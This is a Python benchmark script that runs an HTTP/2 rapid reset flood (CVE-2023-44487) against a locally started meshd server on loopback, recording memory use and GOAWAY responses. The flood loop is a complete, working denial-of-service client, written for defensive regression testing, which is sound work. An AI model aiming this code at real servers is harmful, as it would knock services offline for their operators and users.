"""HTTP/2 rapid reset (CVE-2023-44487; issue 20, defect 6) against meshd's plaintext xDS port, on loopback:

    PYTHONPATH=/path/to/h2:src:. python -m benchmarks.rapid_reset --config-dir DIR --resets 300000

starts `meshd serve` (PYTHONPATH decides which meshd), then C connections each open an ADS stream
(HEADERS) and reset it at once (RST_STREAM CANCEL), over and over, until --resets in all or --seconds.
Prints meshd's RSS before, during (every 50k resets) and 5 s after, and whether meshd sent GOAWAY.
Needs the `h2` package (not a meshd dependency: `pip install --target DIR h2`).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import pathlib
import socket
import tempfile
import time

import h2.config
import h2.connection
import h2.events

from benchmarks.procs import MeshdProcess

PATH = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "meshd"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def _flood(port: int, count: int, deadline: float) -> dict[str, int]:
    """One connection: open and reset `count` streams (blocking socket; bounded by deadline)."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setblocking(False)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sent = goaway = 0
    try:
        while sent < count and time.time() < deadline and not goaway:
            for _ in range(100):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, HEADERS)
                conn.reset_stream(stream_id)
                sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except BlockingIOError:
                pass
            except OSError:
                break
            try:
                data = sock.recv(1 << 20)
            except BlockingIOError:
                continue
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway = 1
            out = conn.data_to_send()
            if out:
                with contextlib.suppress(BlockingIOError, OSError):
                    sock.sendall(out)
    except Exception:
        pass
    finally:
        sock.close()
    return {"sent": sent, "goaway": goaway}


async def _main(args: argparse.Namespace) -> dict[str, object]:
    work = pathlib.Path(tempfile.mkdtemp(prefix="meshd-rapid-reset-"))
    config = pathlib.Path(args.config_dir) if args.config_dir else work / "config"
    config.mkdir(exist_ok=True)
    meshd = MeshdProcess(config_dir=config, log_path=work / "meshd.log", poll_interval=0.5)
    await meshd.start(timeout=60)
    out: dict[str, object] = {"rss_before_mb": meshd.memory()["rss_mb"]}
    samples = []
    deadline = time.time() + args.seconds
    total = goaways = 0
    try:
        per_round = 50_000
        while total < args.resets and time.time() < deadline:
            results = await asyncio.gather(
                *(
                    asyncio.to_thread(_flood, meshd.xds_port, per_round // args.connections, deadline)
                    for _ in range(args.connections)
                )
            )
            total += sum(r["sent"] for r in results)
            goaways += sum(r["goaway"] for r in results)
            samples.append((total, meshd.memory()["rss_mb"]))
        out["resets"], out["goaway_connections"], out["samples"] = total, goaways, samples
        out["rss_peak_mb"] = meshd.memory()["peak_rss_mb"]
        await asyncio.sleep(5)
        out["rss_after_5s_mb"] = meshd.memory()["rss_mb"]
    finally:
        await meshd.stop()
    return out


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.rapid_reset", description=__doc__)
    parser.add_argument("--config-dir")
    parser.add_argument("--resets", type=int, default=300_000)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=120.0)
    print(json.dumps(asyncio.run(_main(parser.parse_args()))))


if __name__ == "__main__":
    main()
